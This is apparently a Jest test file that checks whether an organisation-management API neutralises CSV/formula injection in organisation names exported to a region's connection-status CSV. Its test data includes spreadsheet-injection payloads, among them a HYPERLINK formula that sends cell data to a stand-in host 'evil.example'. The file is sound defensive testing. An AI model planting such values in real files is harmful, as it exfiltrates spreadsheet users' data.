import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startTestApp, type TestApp } from '../support/app.js';
import { memberBrowser, organization, patchJson } from '../support/pos.js';
import { STARTUP_TIMEOUT_MS } from '../support/timeouts.js';

/**
 * CSV injection (issue 19, gap 7): an institution's administrator names their organisation so that
 * the region's administrator, opening the connection-status CSV in a spreadsheet, runs a formula or
 * sees the columns shifted. Every export quotes a cell with `;` or `,` and neutralises one that
 * starts with `= + - @ TAB CR` (TAB and CR cannot reach a name over HTTP: trimmed, then refused).
 */
let t: TestApp;
beforeAll(async () => {
  t = await startTestApp(
    { THROTTLE_AUTH_LIMIT: '100000', THROTTLE_LIMIT: '100000' },
    { listen: true },
  );
}, STARTUP_TIMEOUT_MS);
afterAll(() => t.close());

/** One CSV line as a spreadsheet reads it (RFC 4180 quoting, `;` or `,` as the separator). */
function cells(line: string, separator: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const c = line[i];
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') quoted = !quoted;
    else if (c === separator && !quoted) {
      out.push(cell);
      cell = '';
    } else cell += c;
  }
  return [...out, cell];
}

describe('CSV injection', () => {
  it('an institution named as a formula or with separators reaches the region’s CSV as one inert text cell', async () => {
    const region = await organization(t.em(), 'Министерство (CSV)', null);
    const school = await organization(t.em(), 'Школа (CSV)', region);
    const regionAdmin = (await memberBrowser(t, region, ['admin'])).browser;
    const schoolAdmin = (await memberBrowser(t, school, ['admin'])).browser;
    // The name, and the text cell a spreadsheet must show for it.
    const names: [string, string][] = [
      [
        '=HYPERLINK("http://evil.example/?"&A1;"Школа, филиал")',
        `'=HYPERLINK("http://evil.example/?"&A1;"Школа, филиал")`,
      ],
      ['+7(912)000', `'+7(912)000`],
      ['-2+3;cmd', `'-2+3;cmd`],
      ['@SUM(1,2)', `'@SUM(1,2)`],
      // A formula right after a separator starts a cell for a spreadsheet that splits there.
      ['Школа,=2+3', `Школа,'=2+3`],
      ['Лицей; @x;-1', `Лицей; @x;'-1`],
    ];
    for (const [name, shown] of names) {
      const renamed = await patchJson(schoolAdmin, `/api/v1/pos/organizations/${school.id}`, {
        name,
      });
      expect(renamed.status).toBe(200);
      const csv = await regionAdmin.get(
        `/api/v1/pos/organizations/${region.id}/connection-status?format=csv`,
      );
      expect(csv.status).toBe(200);
      const line = (await csv.text()).split('\r\n')[2];
      const row = cells(line, ';');
      expect(row).toHaveLength(14);
      expect(row[1]).toBe(shown);
      // A spreadsheet that splits on either separator, honouring quotes or not, starts no cell
      // with a formula.
      for (const split of [cells(line, ','), line.split(','), line.split(';')])
        expect(split.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
  });
});
